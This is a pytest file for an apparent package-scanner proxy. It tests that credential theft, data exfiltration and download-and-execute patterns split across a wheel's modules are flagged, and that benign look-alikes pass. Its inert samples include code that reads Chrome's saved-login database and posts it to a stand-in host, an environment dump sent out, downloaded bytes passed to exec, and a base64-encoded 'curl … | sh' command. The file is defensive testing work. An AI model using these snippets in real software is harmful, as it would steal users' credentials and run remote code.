"""Behaviours rules 12 read, each beside a look-alike that must pass: data that crosses the
package's own modules (a credential store read in one module and sent by a function of
another; decoded or downloaded bytes handed to another module's function that runs them),
and a function of the file that runs what it is handed (``def run(code): exec(code)``).

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan.source import read_source
from tests.support.archives import wheel
from tests.support.scan import judge as _judge

WHEEL = "demo-1.0-py3-none-any.whl"

SEND = "import requests\ndef ship(data):\n    requests.post('https://collect.example.net/u', data=data)\n"
RUN = "def go(code):\n    exec(code)\n"
RUN_COMMAND = "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
FETCH = (
    "import urllib.request\n"
    "def get():\n"
    "    return urllib.request.urlopen('https://cdn.example.net/p').read()\n"
)
BROWSER = (
    "import os\n"
    "def collect():\n"
    "    p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',\n"
    "                     'Default', 'Login Data')\n"
    "    return open(p, 'rb').read()\n"
)
HOST = (
    "import os, socket, getpass\n"
    "def gather():\n"
    "    return {'env': dict(os.environ), 'host': socket.gethostname(), 'who': getpass.getuser()}\n"
)

CROSSING = {
    "credential store read in one module, sent by another": {
        "demo/__init__.py": "from .grab import collect\nfrom .send import ship\nship(collect())\n",
        "demo/grab.py": BROWSER,
        "demo/send.py": SEND,
    },
    "environment and host facts, through a local name": {
        "demo/__init__.py": "from . import info, net\nfacts = info.gather()\nnet.ship(facts)\n",
        "demo/info.py": HOST,
        "demo/net.py": SEND.replace("ship", "ship"),
    },
    "decoded module-level value run by another module's function": {
        "demo/__init__.py": "from .blob import DATA\nfrom .run import go\ngo(DATA)\n",
        "demo/blob.py": "import base64\nDATA = base64.b64decode('cHJpbnQoMSk=')\n",
        "demo/run.py": RUN,
    },
    "download run by another module's function": {
        "demo/__init__.py": "from .fetch import get\nfrom .run import go\ngo(get())\n",
        "demo/fetch.py": FETCH,
        "demo/run.py": RUN,
    },
    "download run here, fetched by another module": {
        "demo/__init__.py": "from .fetch import get\nexec(get())\n",
        "demo/fetch.py": FETCH,
    },
    "credential sent here, read by another module": {
        "demo/__init__.py": (
            "import requests\nfrom .grab import collect\n"
            "requests.post('https://collect.example.net/u', data=collect())\n"
        ),
        "demo/grab.py": BROWSER,
    },
    "two modules deep": {
        "demo/__init__.py": "from .core import payload\nfrom .run import go\ngo(payload())\n",
        "demo/core.py": "from .fetch import get\ndef payload():\n    return get()\n",
        "demo/fetch.py": FETCH,
        "demo/run.py": RUN,
    },
}

EVERYDAY = {
    # A client's modules: a request made with the user's arguments, a response parsed.
    "API client split in modules": {
        "demo/__init__.py": "from .api import fetch\nfrom .parse import parse\nparse(fetch('a'))\n",
        "demo/api.py": (
            "import requests\ndef fetch(name):\n"
            "    return requests.get('https://api.example.org/items/' + name).json()\n"
        ),
        "demo/parse.py": "import json\ndef parse(data):\n    return json.dumps(data)\n",
    },
    # Configuration read from the environment, handed to a function that logs in with it.
    "settings handed to a client": {
        "demo/__init__.py": "from .settings import load\nfrom .client import connect\nconnect(load())\n",
        "demo/settings.py": "import os\ndef load():\n    return {'region': os.getenv('AWS_REGION')}\n",
        "demo/client.py": (
            "import requests\ndef connect(settings):\n"
            "    return requests.get('https://api.example.org/', params=settings)\n"
        ),
    },
    # A task runner: a command the caller names, run by a helper of another module.
    "command runner": {
        "demo/__init__.py": "from .shell import run\nfrom .tools import command\nrun(command('ls'))\n",
        "demo/shell.py": RUN_COMMAND.replace("go", "run"),
        "demo/tools.py": "import shlex\ndef command(name):\n    return shlex.join([name, '-l'])\n",
    },
    # A plugin loader: a module's own source compiled and run (a template, a config DSL).
    "code of the package's own file run": {
        "demo/__init__.py": "from .load import source\nfrom .run import go\ngo(source('x.py'))\n",
        "demo/load.py": "def source(name):\n    return open(name).read()\n",
        "demo/run.py": RUN,
    },
}


@pytest.mark.parametrize("case", sorted(CROSSING))
def test_data_crossing_the_packages_own_modules_is_followed(case: str) -> None:
    rules, held = _judge(wheel(CROSSING[case]), WHEEL)
    assert held, rules
    assert {"credential-exfil", "phone-home", "decode-exec", "download-exec"} & rules.keys()


@pytest.mark.parametrize("case", sorted(EVERYDAY))
def test_everyday_packages_split_in_modules_pass(case: str) -> None:
    rules, held = _judge(wheel(EVERYDAY[case]), WHEEL)
    assert not held, rules


def test_the_finding_names_the_line_where_the_modules_data_meets() -> None:
    report_rules, _ = _judge(wheel(CROSSING["download run by another module's function"]), WHEEL)
    from pipgate.proxy.scan import scan_archive

    report = scan_archive(wheel(CROSSING["download run by another module's function"]), WHEEL)
    found = [f for f in report.findings if f.rule == "download-exec"]
    assert found and (found[0].file, found[0].line) == ("demo/__init__.py", 3), report_rules


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (
            "import base64\ndef go(code):\n    exec(code)\ngo(base64.b64decode('cHJpbnQoMSk='))\n",
            "decode-exec",
        ),
        (
            "import urllib.request\ndef go(code):\n    exec(code)\n"
            "go(urllib.request.urlopen('https://cdn.example.net/p').read())\n",
            "download-exec",
        ),
        (
            "import base64, subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
            "go(base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS5uZXQvcCB8IHNo'))\n",
            "decode-exec",
        ),
    ],
)
def test_a_function_that_runs_what_it_is_handed_is_followed_from_its_calls(
    source: str, rule: str
) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert held and rule in rules, rules


@pytest.mark.parametrize(
    "source",
    [
        # A REPL helper handed code the user typed.
        "def go(code):\n    exec(code)\ngo(input('> '))\n",
        # A command built from the caller's words.
        "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\ngo('make ' + 'all')\n",
        # Decoded runtime data (a message) handed to a process as an argument.
        "import base64, subprocess, sys\ndef show(text):\n    subprocess.run(['echo', text])\n"
        "show(base64.b64decode(sys.argv[1]).decode())\n",
    ],
)
def test_everyday_functions_that_run_what_they_are_handed_pass(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert not held, rules


def test_links_are_noted_only_when_asked_for() -> None:
    """A library's modules are read alone (``links=False``, the cost of a flow check of
    every module is paid only in a small package); asked, the reader notes the link."""
    source = "from .grab import collect\nfrom .send import ship\nship(collect())\n"
    assert read_source(source).links == []
    (link,) = read_source(source, links=True).links
    assert (link.target, link.name, link.line) == ("call", ".send.ship", 3)
    assert "module:.grab.collect()" in link.kinds


def test_a_large_package_is_read_module_by_module() -> None:
    """Past the passed-over budget, modules are judged alone: the crossing is not linked
    (its parts are still judged where they are)."""
    files = dict(CROSSING["download run by another module's function"])
    for number in range(12):
        files[f"demo/filler{number}.py"] = "VALUE = 1\n" + "# padding\n" * 12000
    rules, _ = _judge(wheel(files), WHEEL)
    assert "download-exec" not in rules, rules
